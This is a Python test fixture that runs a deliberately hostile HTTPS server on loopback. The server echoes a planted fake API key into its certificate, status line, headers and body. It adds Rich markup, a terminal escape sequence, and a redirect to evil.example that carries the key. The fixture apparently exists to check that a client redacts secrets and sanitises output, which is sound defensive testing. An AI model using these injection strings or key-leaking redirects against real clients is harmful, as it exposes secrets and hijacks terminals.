"""A hostile HTTPS server on loopback: it echoes the key it receives into every field it
controls (certificate subject, status line, Location, headers, body), with Rich markup and
terminal escape sequences besides."""

from __future__ import annotations

import asyncio
import ipaddress
import re
import ssl
import threading
from datetime import UTC, datetime, timedelta
from pathlib import Path

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

from assure_doctor.sandbox import pki

PLANTED = "sk_live_" + "Zx9" * 10
MARKUP = "[/]x[@click=app.quit]y[/]"
OSC = "\x1b]0;owned\x07"


class KeyEcho:
    """HTTPS on loopback whose certificate, status, headers and body all hold `planted`."""

    def __init__(self, planted: str, workdir: Path) -> None:
        self.planted = planted
        ca = pki.make_ca("hostile CA")
        self.ca_bundle = workdir / "ca.pem"
        self.ca_bundle.write_bytes(ca.cert_pem)
        key = ec.generate_private_key(ec.SECP256R1())
        name = x509.Name([x509.NameAttribute(NameOID.ORGANIZATION_NAME, f"org {planted}"),
                          x509.NameAttribute(NameOID.COMMON_NAME, f"cn-{planted}"[:64])])
        now = datetime.now(UTC)
        cert = (x509.CertificateBuilder().subject_name(name).issuer_name(ca.cert.subject)
                .public_key(key.public_key()).serial_number(x509.random_serial_number())
                .not_valid_before(now - timedelta(days=1)).not_valid_after(now + timedelta(days=9))
                .add_extension(x509.SubjectAlternativeName([x509.IPAddress(
                    ipaddress.ip_address("127.0.0.1"))]), critical=False)
                .sign(ca.key, hashes.SHA256()))
        (workdir / "leaf.pem").write_bytes(cert.public_bytes(serialization.Encoding.PEM))
        (workdir / "leaf.key").write_bytes(key.private_bytes(
            serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption()))
        self.tls = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
        self.tls.load_cert_chain(workdir / "leaf.pem", workdir / "leaf.key")
        self.port = 0
        self._ready = threading.Event()
        self._loop = asyncio.new_event_loop()

    async def _handle(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 5)
        except (OSError, TimeoutError, asyncio.IncompleteReadError):
            writer.close()
            return
        echoed = re.search(rb"x-api-key: *(\S+)", head, re.I)
        seen = echoed.group(1).decode() if echoed else self.planted
        body = f'{{"message": "bad key {seen}", "raw": "{OSC} {MARKUP} {seen}"}}'.encode()
        writer.write(
            f"HTTP/1.1 302 Found {seen}\r\nLocation: https://evil.example/{MARKUP}?k={seen}\r\n"
            f"Server: srv-{seen}\r\nSet-Cookie: s={seen}\r\nX-Echo: {seen}\r\n"
            f"Via: 1.1 {seen}\r\nContent-Type: application/json\r\n"
            f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n".encode() + body)
        await writer.drain()
        writer.close()

    def __enter__(self) -> KeyEcho:
        async def serve() -> None:
            server = await asyncio.start_server(self._handle, "127.0.0.1", 0, ssl=self.tls)
            self.port = server.sockets[0].getsockname()[1]
            self._ready.set()

        def run() -> None:
            self._loop.run_until_complete(serve())
            self._loop.run_forever()

        threading.Thread(target=run, daemon=True).start()
        self._ready.wait(10)
        return self

    def __exit__(self, *exc: object) -> None:
        self._loop.call_soon_threadsafe(self._loop.stop)
